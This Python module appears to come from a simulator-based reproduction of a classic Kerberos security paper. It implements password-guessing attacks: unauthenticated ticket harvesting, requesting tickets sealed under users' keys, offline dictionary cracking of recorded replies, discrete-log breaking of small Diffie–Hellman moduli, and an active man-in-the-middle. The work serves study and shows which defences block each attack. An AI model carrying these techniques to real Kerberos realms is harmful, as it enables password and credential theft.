"""Password-guessing: the paper's second major attack class.

    "When a user requests Tc,tgs (the ticket-granting ticket), the answer
    is returned encrypted with Kc, a key derived by a publicly-known
    algorithm from the user's password.  A guess at the user's password
    can be confirmed by calculating Kc and using it to decrypt the
    recorded answer."

Three channels, in increasing order of adversary effort:

* :func:`harvest_tickets` — no eavesdropping at all: "an attacker could
  simply request ticket-granting tickets for many different users."
  Blocked by preauthentication (recommendation g).

* :func:`client_as_service_harvest` — the loophole the authors say they
  "originally overlooked": any authenticated user may request a ticket
  *for a user principal as the service*; the ticket comes back encrypted
  in the victim's Kc.  Blocked by refusing tickets for users (rec. g).

* :func:`offline_dictionary_attack` — passive eavesdropping on real
  login dialogs, then offline guessing ("the network equivalent of
  /etc/passwd").  Blocked by the exponential-key-exchange layer
  (recommendation h) — unless the adversary goes active
  (:func:`dh_active_mitm`) or the modulus is small enough to take a
  discrete log (:func:`dh_passive_break`).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, Iterable, List, Optional, Tuple

from functools import lru_cache

from repro.attacks.base import AttackResult
from repro.crypto import modes
from repro.crypto.dh import DhGroup, DiscreteLogError, discrete_log, shared_key_to_des
from repro.crypto.keys import string_to_key
from repro.kerberos import messages
from repro.kerberos.client import KerberosError
from repro.kerberos.config import ProtocolConfig
from repro.kerberos.kdc import AS_SERVICE
from repro.kerberos.messages import AS_REP, AS_REQ, SealError, unframe
from repro.sim.network import Endpoint, WireMessage
from repro.testbed import Testbed

__all__ = [
    "GuessingResult",
    "clear_guess_memo",
    "try_password_against_reply",
    "offline_dictionary_attack",
    "harvest_tickets",
    "client_as_service_harvest",
    "dh_passive_break",
    "dh_active_mitm",
]


@dataclass
class GuessingResult:
    """Outcome of a dictionary run over recorded material."""

    cracked: Dict[str, str] = field(default_factory=dict)  # user -> password
    attempts: int = 0
    material_count: int = 0


def _extract_as_material(
    config: ProtocolConfig, replies: Iterable[WireMessage]
) -> List[Tuple[str, bytes, bytes]]:
    """Pull (client, enc_part, handheld_r) out of recorded AS replies.

    The handheld challenge R travels in the clear; when present, the
    reply key is ``{R}Kc`` — one extra public DES operation per guess,
    no protection at all against offline guessing (the handheld scheme
    addresses login trojans, not wiretaps).
    """
    material = []
    for message in replies:
        try:
            is_error, body = unframe(config, message.payload)
            if is_error:
                continue
            values = config.codec.decode(AS_REP, body)
        except Exception:
            continue
        material.append(
            (values["client"], values["enc_part"], values["handheld_r"])
        )
    return material


# The cracker's two standard optimisations, both period-accurate:
# memoise the public password->key transform (the same dictionary is
# ground against every victim), and reject wrong keys after decrypting
# only the leading blocks (the internal length field is implausible for
# all but ~1 in 2^32 wrong keys).
_cached_string_to_key = lru_cache(maxsize=None)(string_to_key)


def clear_guess_memo() -> None:
    """Forget the memoised password->key transforms.

    The memo is a real cracker optimisation, but it is process-global:
    left alone, a matrix cell that guesses the same dictionary as an
    earlier cell would execute fewer DES block operations depending on
    what happened to run before it in the same process.
    ``run_attack_matrix`` clears it at the top of every cell so each
    cell's cost is a property of the cell, identical whether cells run
    serially or fan out over worker processes.
    """
    _cached_string_to_key.cache_clear()


def _head_plausible(config: ProtocolConfig, enc_part: bytes, key: bytes) -> bool:
    """Decrypt just the blocks that hold the sealed length field: one,
    or two behind a confounder."""
    offset = 8 if config.use_confounder else 0
    needed = offset + 4  # through the 4-byte length field
    head = enc_part[:(needed + 7) // 8 * 8]
    if config.cipher_mode == "pcbc":
        plain = modes.pcbc_decrypt(key, head)
    else:
        plain = modes.cbc_decrypt(key, head)
    length = int.from_bytes(plain[offset:offset + 4], "big")
    return length <= len(enc_part)


def try_password_against_reply(
    config: ProtocolConfig, enc_part: bytes, guess: str,
    handheld_r: bytes = b"",
) -> bool:
    """One oracle query: does *guess* decrypt this AS reply?

    Success is unambiguous: :func:`repro.kerberos.messages.unseal`
    verifies the internal length field and checksum, so a wrong key is
    rejected with overwhelming probability — the redundancy that makes
    recorded dialogs such a good cracking oracle.

    With *handheld_r* set (it is public), the candidate key is
    ``{R}Kc`` — the scheme costs the attacker one extra DES block per
    guess and nothing more.
    """
    key = _cached_string_to_key(guess)
    if handheld_r:
        from repro.crypto.des import set_odd_parity
        from repro.crypto.modes import ecb_encrypt

        key = set_odd_parity(ecb_encrypt(key, handheld_r))
    if not _head_plausible(config, enc_part, key):
        return False
    try:
        messages.unseal(enc_part, key, config)
        return True
    except SealError:
        return False


def offline_dictionary_attack(
    config: ProtocolConfig,
    replies: Iterable[WireMessage],
    dictionary: Iterable[str],
) -> GuessingResult:
    """Grind a dictionary against every recorded AS reply."""
    material = _extract_as_material(config, replies)
    result = GuessingResult(material_count=len(material))
    words = list(dictionary)
    for client, enc_part, handheld_r in material:
        user = client.split("@", 1)[0]
        if user in result.cracked:
            continue
        for guess in words:
            result.attempts += 1
            if try_password_against_reply(config, enc_part, guess,
                                          handheld_r=handheld_r):
                result.cracked[user] = guess
                break
    return result


def harvest_tickets(
    bed: Testbed,
    usernames: Iterable[str],
    attacker_address: str = "10.66.6.6",
) -> Tuple[List[WireMessage], AttackResult]:
    """Actively request TGTs for many users from the attacker's own host.

    Returns the harvested reply messages (for feeding to the offline
    attack) and a result describing how many requests the KDC served.
    """
    config = bed.config
    kdc_address = bed.directory.kdc_address(bed.realm.name)
    endpoint = Endpoint(kdc_address, AS_SERVICE)
    harvested: List[WireMessage] = []
    served = 0
    refused = 0
    for name in usernames:
        request = config.codec.encode(AS_REQ, {
            "client": f"{name}@{bed.realm.name}",
            "server": str(bed.realm.kdc.tgs_principal),
            "nonce": 0x41414141,
            "flags_requested": 0,
            "preauth": b"",      # the attacker has nothing to put here
            "dh_public": b"",
        })
        reply = bed.network.inject(attacker_address, endpoint, request)
        is_error, _body = unframe(config, reply)
        if is_error:
            refused += 1
        else:
            served += 1
            harvested.append(WireMessage(
                -1, kdc_address, endpoint, "response", reply, bed.clock.now()
            ))
    return harvested, AttackResult(
        "ticket-harvest",
        served > 0,
        f"KDC served {served} of {served + refused} unauthenticated requests",
        evidence={"served": served, "refused": refused},
    )


def client_as_service_harvest(
    bed: Testbed,
    attacker_client,
    victims: Iterable[str],
) -> Tuple[List[bytes], AttackResult]:
    """The overlooked avenue: request tickets *for* user principals.

    *attacker_client* is a legitimate, fully-authenticated client (so
    preauthentication does not help here); the crackable material is the
    *ticket* itself, sealed under each victim's password-derived key.
    """
    from repro.kerberos.principal import Principal

    sealed_tickets: List[bytes] = []
    refused = 0
    for name in victims:
        victim_principal = Principal(name, "", bed.realm.name)
        try:
            cred = attacker_client.get_service_ticket(victim_principal)
        except KerberosError:
            refused += 1
            continue
        sealed_tickets.append(cred.sealed_ticket)
    return sealed_tickets, AttackResult(
        "client-as-service-harvest",
        bool(sealed_tickets),
        f"obtained {len(sealed_tickets)} tickets sealed under user keys "
        f"({refused} refused)",
        evidence={"obtained": len(sealed_tickets), "refused": refused},
    )


def crack_sealed_tickets(
    config: ProtocolConfig,
    sealed_tickets: Iterable[bytes],
    victims: List[str],
    dictionary: Iterable[str],
) -> GuessingResult:
    """Dictionary attack against tickets sealed under user keys."""
    result = GuessingResult()
    words = list(dictionary)
    for victim, blob in zip(victims, sealed_tickets):
        result.material_count += 1
        for guess in words:
            result.attempts += 1
            if try_password_against_reply(config, blob, guess):
                result.cracked[victim] = guess
                break
    return result


__all__.append("crack_sealed_tickets")


def dh_passive_break(
    config: ProtocolConfig,
    request_message: WireMessage,
    reply_message: WireMessage,
    dictionary: Iterable[str],
    max_work: Optional[int] = None,
) -> AttackResult:
    """LaMacchia–Odlyzko: take the discrete log of a small-modulus login.

    Given one recorded (AS_REQ, AS_REP) pair from a DH-protected login,
    solve for the client's private exponent, reconstruct the DH layer
    key, strip it, and run the dictionary against the inner Kc layer.
    """
    group = DhGroup.for_bits(config.dh_modulus_bits)
    try:
        request = config.codec.decode(AS_REQ, request_message.payload)
        _is_error, body = unframe(config, reply_message.payload)
        reply = config.codec.decode(AS_REP, body)
    except Exception as exc:
        return AttackResult("dh-passive-break", False, f"could not parse: {exc}")
    client_public = int.from_bytes(request["dh_public"], "big")
    kdc_public = int.from_bytes(reply["dh_public"], "big")

    try:
        client_private = discrete_log(group, client_public, max_work=max_work)
    except DiscreteLogError as exc:
        return AttackResult(
            "dh-passive-break", False,
            f"discrete log infeasible at {group.bits} bits: {exc}",
            evidence={"modulus_bits": group.bits},
        )

    secret = pow(kdc_public, client_private, group.prime)
    dh_key = shared_key_to_des(secret, group.prime)
    try:
        inner = messages.unseal(reply["enc_part"], dh_key, config)
    except SealError:
        return AttackResult(
            "dh-passive-break", False, "recovered exponent did not decrypt"
        )

    for guess in dictionary:
        if try_password_against_reply(config, inner, guess,
                                      handheld_r=reply["handheld_r"]):
            return AttackResult(
                "dh-passive-break", True,
                f"modulus broken at {group.bits} bits; password recovered: "
                f"{guess!r}",
                evidence={"modulus_bits": group.bits, "password": guess},
            )
    return AttackResult(
        "dh-passive-break", False,
        "DH layer stripped but password not in dictionary",
        evidence={"modulus_bits": group.bits, "dh_broken": True},
    )


def dh_active_mitm(
    bed: Testbed, victim_user: str, victim_password_guesses: Iterable[str],
    workstation,
) -> AttackResult:
    """Active man-in-the-middle on the DH login layer.

    "Exponential key exchange is normally vulnerable to active wiretaps"
    — the adversary substitutes its own exponential in both directions,
    learns the DH layer key, strips it, and the recorded inner material
    is password-guessable again.
    """
    config = bed.config
    group = DhGroup.for_bits(config.dh_modulus_bits)
    # Adversary's exponent pair.
    from repro.crypto.dh import DhKeyPair
    mitm = DhKeyPair.generate(group, bed.rng.fork("mitm"))
    width = (group.prime.bit_length() + 7) // 8
    state: Dict[str, int] = {}

    def rewrite_request(message):
        if message.dst.service != AS_SERVICE:
            return None
        values = config.codec.decode(AS_REQ, message.payload)
        if not values["dh_public"]:
            return None
        state["client_public"] = int.from_bytes(values["dh_public"], "big")
        values["dh_public"] = mitm.public.to_bytes(width, "big")
        return config.codec.encode(AS_REQ, values)

    def rewrite_response(message):
        if message.dst.service != AS_SERVICE:
            return None
        is_error, body = unframe(config, message.payload)
        if is_error:
            return None
        values = config.codec.decode(AS_REP, body)
        if not values["dh_public"]:
            return None
        kdc_public = int.from_bytes(values["dh_public"], "big")
        # Strip the KDC-side DH layer, re-wrap towards the client.
        kdc_secret = pow(kdc_public, mitm.private, group.prime)
        inner = messages.unseal(
            values["enc_part"], shared_key_to_des(kdc_secret, group.prime),
            config,
        )
        state["inner"] = inner
        state["handheld_r"] = values["handheld_r"]
        client_secret = pow(state["client_public"], mitm.private, group.prime)
        values["enc_part"] = messages.seal(
            inner, shared_key_to_des(client_secret, group.prime),
            config, bed.rng.fork("mitm-seal"),
        )
        values["dh_public"] = mitm.public.to_bytes(width, "big")
        return b"\x00" + config.codec.encode(AS_REP, values)

    bed.adversary.on_request(rewrite_request)
    bed.adversary.on_response(rewrite_response)
    try:
        bed.login(victim_user, bed.password_of(victim_user), workstation)
    finally:
        bed.adversary.clear_taps()

    inner = state.get("inner")
    if inner is None:
        return AttackResult("dh-active-mitm", False, "no DH exchange observed")
    for guess in victim_password_guesses:
        if try_password_against_reply(config, inner, guess,
                                      handheld_r=state.get("handheld_r", b"")):
            return AttackResult(
                "dh-active-mitm", True,
                "DH layer stripped by active MITM; password recovered: "
                f"{guess!r}",
                evidence={"password": guess},
            )
    return AttackResult(
        "dh-active-mitm", False,
        "DH layer stripped but password not in dictionary",
        evidence={"dh_stripped": True},
    )
